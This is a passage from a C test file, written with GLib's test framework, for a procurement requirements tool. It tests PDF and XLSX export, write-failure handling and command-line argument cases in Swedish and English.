      if (g_str_equal (kind, "pdf"))
        ok = kk_export_appendix_pdf (f->db, f->procurement, "sv", path, NULL, NULL, &error);
      else
        ok = kk_export_checklist_xlsx (f->db, f->procurement, f->suppliers[1], "sv", path, &error);
      g_assert_false (ok);
      g_assert_error (error, KK_EXPORT_ERROR, KK_EXPORT_ERROR_WRITE);
      g_assert_nonnull (strstr (error->message, path));
      g_printerr ("%s\n", error->message);
      assert_no_file (path);
      g_error_free (error);
      return;
    }

  for (guint k = 0; k < 2; k++)
    {
      /* The child inherits the environment. */
      g_setenv ("KK_TEST_KIND", k == 0 ? "pdf" : "xlsx", TRUE);
      g_test_trap_subprocess (NULL, 0, 0);
      g_test_trap_assert_passed ();
      g_test_trap_assert_stderr (k == 0 ? "*File too large*" : "*Cannot write*");
    }
}

/* ------------------------------------------------------------------ */
/* Command line */

static void
test_cli (Fixture *f, gconstpointer data)
{
  g_autofree char *pdf = g_build_filename (f->dir, "cli.pdf", NULL);
  g_autofree char *pdf_en = g_build_filename (f->dir, "cli-en.pdf", NULL);
  g_autofree char *xlsx = g_build_filename (f->dir, "cli-checklista.xlsx", NULL);
  g_autofree char *matrix = g_build_filename (f->dir, "cli-matris.xlsx", NULL);
  g_autofree char *bad = g_build_filename (f->dir, "finns-inte", "x.pdf", NULL);
  g_autofree char *pid = g_strdup_printf ("%" G_GINT64_FORMAT, f->procurement);
  g_autofree char *sid = g_strdup_printf ("%" G_GINT64_FORMAT, f->suppliers[1]);
  struct {
    int         status;
    const char *expect_err;
    const char *argv[10];
  } cases[] = {
    { 0, NULL, { "appendix", "SLK 2026/0042", "-o", pdf } },
    { 0, NULL, { "appendix", pid, "-o", pdf_en, "--lang", "en" } },
    { 0, NULL, { "checklist", "export", "SLK 2026/0042", "556703-7485", "-o", xlsx, "--lang", "sv" } },
    { 0, NULL, { "matrix", pid, "-o", matrix } },
    { 1, "SLK 2099/9", { "appendix", "SLK 2099/9", "-o", pdf } },
    { 1, "SLK 2099/9", { "matrix", "SLK 2099/9", "-o", matrix } },
    { 1, "5560125791", { "checklist", "export", pid, "5560125791", "-o", xlsx } },
    { 1, bad, { "appendix", pid, "-o", bad } },
    { 1, bad, { "matrix", pid, "-o", bad } },
    { 1, bad, { "checklist", "export", pid, sid, "-o", bad } },
    { 1, "SLK 2026/0001", { "appendix", "SLK 2026/0001", "-o", pdf } },
    { 2, "-o", { "appendix", pid } },
    { 2, "de", { "appendix", pid, "-o", pdf, "--lang", "de" } },
    { 2, "checklist import", { "checklist", "import", pid } },
    { 2, "frob", { "checklist", "frob" } },
    { 2, "export or import", { "checklist" } },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *out = NULL, *err = NULL;
      int status = kk_test_run_cli (f->db_path, cases[i].argv, &out, &err);

      if (status != cases[i].status)
        g_error ("case %u (%s): exit %d, expected %d; stderr: %s", i, cases[i].argv[0], status, cases[i].status, err);
      if (cases[i].expect_err != NULL && strstr (err, cases[i].expect_err) == NULL)
        g_error ("case %u: stderr does not name “%s”: %s", i, cases[i].expect_err, err);
    }

  {
    PdfFacts facts = { 0 };
    g_autofree char *out = NULL;

    check_pdf (pdf, "sv", "Kravbilaga", &facts);
    g_free (facts.text);
    check_pdf (pdf_en, "en", "Requirement appendix", &facts);
    g_free (facts.text);
    check_python ((const char * const[]) { "checklist", f->db_path, xlsx, pid, sid, "sv", NULL }, &out);
    g_clear_pointer (&out, g_free);
    /* Without --lang the matrix follows the interface: C.UTF-8 is English. */
    check_python ((const char * const[]) { "matrix", f->db_path, matrix, pid, "en", NULL }, &out);
  }
  assert_no_file (bad);
}

int
main (int argc, char **argv)
{
  g_setenv ("KRAVKOLL_NOW", NOW, TRUE);
  g_setenv ("TZ", "UTC", TRUE);
  g_test_init (&argc, &argv, NULL);

#define ADD(name, n, func) g_test_add (name, Fixture, GUINT_TO_POINTER (n), setup, func, teardown)
  ADD ("/export/appendix/sv", 40, test_appendix_sv);
  ADD ("/export/appendix/en", 40, test_appendix_en);
  ADD ("/export/appendix/500", 500, test_appendix_large);
  ADD ("/export/checklist", 40, test_checklist);
  ADD ("/export/checklist/round-trip", 40, test_checklist_round_trip);
  ADD ("/export/matrix", 40, test_matrix);
  ADD ("/export/matrix/constant-memory", 40, test_matrix_big);
  ADD ("/export/errors", 40, test_errors);
  ADD ("/export/errors/write-fails-midway", 200, test_write_fails_midway);
  ADD ("/export/cli", 40, test_cli);
#undef ADD

  return g_test_run ();
}
